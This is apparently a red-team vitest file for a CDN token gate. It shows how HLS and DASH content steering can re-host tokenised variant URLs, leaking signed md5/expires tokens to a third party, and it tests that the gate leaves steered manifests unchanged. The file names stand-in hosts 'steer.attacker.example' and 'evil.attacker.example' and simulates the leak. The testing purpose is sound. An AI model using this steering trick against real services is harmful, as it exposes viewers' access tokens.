/**
 * Red team: manifest propagation carries the viewer's CDN token (md5/expires) only into URIs
 * "a player would fetch from the gate's own host". Content steering (HLS
 * EXT-X-CONTENT-STEERING, DASH <ContentSteering>) breaks that premise: the steering server named
 * in the manifest (any host) answers with PATHWAY-CLONES whose URI-REPLACEMENT.HOST re-hosts
 * every variant / BaseURL. hls.js 1.7 (steering on by default; `performUriReplacement`:
 * `url.hostname = HOST`, query kept) and dash.js 5 both do it. So the relative variant URIs the
 * gate stamped with the token are fetched from the steering server's chosen host, token
 * included: a working directory token leaks to a third party. The gate rewrites such manifests
 * anyway; it should pass a manifest with content steering on unchanged (as it does a DASH
 * manifest whose BaseURL leaves the host).
 */
import { expect, it } from "vitest";
import { signQueryToken } from "../../src/core/query-token.js";
import { RUNTIMES } from "../helpers/runtimes.js";
import { scriptedOrigin } from "../helpers/scripted-origin.js";

const SECRET = "rt-secret";
const HLS =
  "#EXTM3U\n" +
  '#EXT-X-CONTENT-STEERING:SERVER-URI="https://steer.attacker.example/s.json",PATHWAY-ID="a"\n' +
  '#EXT-X-STREAM-INF:BANDWIDTH=800000,PATHWAY-ID="a"\n' +
  "720.m3u8\n";
const DASH =
  '<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT6S">\n' +
  '<ContentSteering defaultServiceLocation="a" queryBeforeStart="true">https://steer.attacker.example/s.json</ContentSteering>\n' +
  '<BaseURL serviceLocation="a">./</BaseURL>\n' +
  '<Period><AdaptationSet mimeType="video/mp4"><Representation id="v" bandwidth="800000">' +
  '<SegmentTemplate media="seg-$Number$.m4s" initialization="init.mp4" duration="6" timescale="1"/>' +
  "</Representation></AdaptationSet></Period></MPD>\n";

/** What hls.js does to a variant URL on a cloned pathway (performUriReplacement, HOST only). */
function cloned(url: string, host: string): string {
  const u = new URL(url);
  u.hostname = host;
  return u.href;
}

for (const [name, start] of Object.entries(RUNTIMES)) {
  it(`${name}: a steered manifest is not given the token`, async () => {
    const origin = await scriptedOrigin((req) => {
      const path = req.split(" ")[1]!;
      const [body, type] = path.includes(".mpd")
        ? [DASH, "application/dash+xml"]
        : [HLS, "application/vnd.apple.mpegurl"];
      return { pieces: [`HTTP/1.1 200 OK\r\ncontent-type: ${type}\r\ncontent-length: ${body.length}\r\n\r\n${body}`] };
    });
    const gate = await start({ ORIGIN_URL: origin.url, SECRET, PREFIXES: "videos", QUERY_TOKEN_PREFIXES: "hls" });
    try {
      const expires = Math.floor(Date.now() / 1000) + 3600;
      const md5 = signQueryToken({ path: "/hls/v1/", secret: SECRET, expires });
      const master = `${gate.url}/hls/v1/master.m3u8?md5=${md5}&expires=${expires}`;
      const hls = await (await fetch(master)).text();
      const variant = hls.split("\n").find((l) => l.startsWith("720.m3u8"))!;
      const leaked = cloned(new URL(variant, master).href, "evil.attacker.example");
      console.log(name, "HLS variant:", variant, "→ after a steering clone:", leaked);
      const mpd = await (await fetch(`${gate.url}/hls/v1/manifest.mpd?md5=${md5}&expires=${expires}`)).text();
      console.log(name, "DASH:", /media="[^"]*"/.exec(mpd)?.[0]);
      expect(hls).toBe(HLS);
      expect(mpd).toBe(DASH);
    } finally {
      await gate.close();
      await origin.close();
    }
  });
}
